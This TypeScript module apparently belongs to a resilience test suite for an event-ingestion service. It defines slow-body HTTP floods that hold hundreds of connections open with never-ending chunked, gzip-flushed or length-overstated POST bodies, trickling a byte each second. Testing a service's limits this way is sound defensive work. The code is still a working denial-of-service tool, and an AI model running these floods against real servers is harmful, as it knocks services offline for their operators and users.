import { performance } from 'node:perf_hooks';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Gzip } from 'node:zlib';
import { constants, createGzip } from 'node:zlib';
import { open } from '../connection.ts';
import type { Flood, Victim } from '../flood.ts';
import { headOf } from '../posts.ts';

const MEBIBYTE = 1024 * 1024;
/** How often a client says a byte more, so that it is not idle, in ms. */
const TRICKLE_MS = 1000;

interface Unfinished {
  readonly type: string;
  /** What stands in the body up to where it stops; its last byte may be sent again and again. */
  readonly text: string;
  readonly gzip?: boolean;
  readonly chunked?: boolean;
  readonly connections: number;
  readonly path?: string;
}

/** Opens connections, sends on each a body that does not end, and lets a byte follow now and then. A connection that is cut is opened again. */
function unfinished({ type, text, gzip = false, chunked = true, connections, path = '/event' }: Unfinished) {
  return async (victim: Victim): Promise<void> => {
    const body = gzip ? await flushed(text) : Buffer.from(text);
    const headers = {
      'Content-Type': type,
      ...(gzip && { 'Content-Encoding': 'gzip' }),
      ...(chunked ? { 'Transfer-Encoding': 'chunked' } : { 'Content-Length': body.length + MEBIBYTE }),
    };
    const head = headOf('POST', path, headers);
    const framed = chunked
      ? Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n')])
      : body;
    const more = chunked ? '1\r\n \r\n' : ' ';
    const client = async (): Promise<void> => {
      while (performance.now() < victim.deadline) {
        const socket = await open(victim);
        if (socket === undefined) {
          await sleep(TRICKLE_MS);
          continue;
        }
        socket.once('data', (answer: Buffer) =>
          victim.tally.answered(Number(answer.toString('latin1', 9, 12))),
        );
        socket.once('close', () => (victim.tally.broken += 1));
        socket.write(head);
        socket.write(framed);
        victim.tally.sent(head.length + framed.length);
        while (!socket.closed && performance.now() < victim.deadline) {
          await sleep(TRICKLE_MS);
          // What gzip left open takes no blank.
          if (!socket.closed && !gzip) socket.write(more);
        }
        socket.removeAllListeners('close');
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: connections }, client));
  };
}

/** What gzip makes of a text whose end is not there yet: all of the text comes out of it. */
async function flushed(text: string): Promise<Buffer> {
  const gzip: Gzip = createGzip({ level: constants.Z_BEST_COMPRESSION });
  const parts: Buffer[] = [];
  gzip.on('data', (part: Buffer) => void parts.push(part));
  gzip.write(text);
  await new Promise<void>((resolve) => gzip.flush(constants.Z_SYNC_FLUSH, resolve));
  gzip.destroy();
  return Buffer.concat(parts);
}

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';
const NDJSON = 'application/x-ndjson';
const letters = (text: string, bytes: number): string =>
  text.repeat(Math.floor(bytes / Buffer.byteLength(text)));
/** A million bytes: the limit of a body, and of a line, is a little more. */
const MILLION = 1_000_000;
/** Lines that are events, of which all are held until the last is there. */
const LINES = '{"labels":{"a":"b"}}\n'.repeat(MILLION / 21);
/** Events with a label that nobody else has, which cost an object each. */
const MANY_LINES = Array.from({ length: 30_000 }, (_, at) => `{"labels":{"a":"${at}"}}\n`).join('');
const LONG_LINE = `{"labels":{"a":"${letters('ж', MILLION)}`;
const FORM_TEXT = `a=${letters('ж', MILLION)}`;
const ARRAY = `[${'{"labels":{"a":"b"}},'.repeat(MILLION / 21)}`;
const MANY = 1000;
const SOME = 200;

/** Kinds 4 and 5: bodies whose end never comes. */
export const UNFINISHED: readonly Flood[] = [
  row(4, 'unfinished gzip of a form', { type: FORM, text: FORM_TEXT, gzip: true, connections: MANY }, true),
  row(4, 'unfinished gzip of JSON', { type: JSON_TYPE, text: ARRAY, gzip: true, connections: MANY }),
  row(4, 'unfinished gzip of a long line', { type: NDJSON, text: LONG_LINE, gzip: true, connections: MANY }),
  row(4, 'unfinished gzip of lines', { type: NDJSON, text: LINES, gzip: true, connections: MANY }),
  row(4, 'unfinished gzip for a webhook', {
    type: JSON_TYPE,
    text: ARRAY,
    gzip: true,
    connections: MANY,
    path: '/webhook/alertmanager',
  }),
  row(5, 'unfinished lines, chunked', { type: NDJSON, text: MANY_LINES, connections: 32 }, true),
  row(5, 'unfinished lines, gzip', { type: NDJSON, text: MANY_LINES, gzip: true, connections: 32 }),
  row(5, 'unfinished long line', { type: NDJSON, text: LONG_LINE, connections: SOME }),
  row(5, 'unfinished JSON, chunked', { type: JSON_TYPE, text: ARRAY, connections: SOME }, true),
  row(5, 'unfinished JSON, Content-Length', {
    type: JSON_TYPE,
    text: ARRAY.slice(0, 40_000),
    chunked: false,
    connections: MANY,
  }),
  row(5, 'unfinished form', { type: FORM, text: FORM_TEXT, connections: SOME }),
  row(5, 'unfinished CloudEvents', {
    type: 'application/cloudevents-batch+json',
    text: ARRAY,
    connections: SOME,
  }),
  row(5, 'unfinished alerts', { type: JSON_TYPE, text: ARRAY, connections: SOME, path: '/api/v2/alerts' }),
];

function row(kind: number, name: string, wanted: Unfinished, isUsual = false): Flood {
  const whole = `${name}, ${wanted.connections} connections`;
  return { kind, name: whole, send: unfinished(wanted), ...(isUsual && { isUsual }) };
}
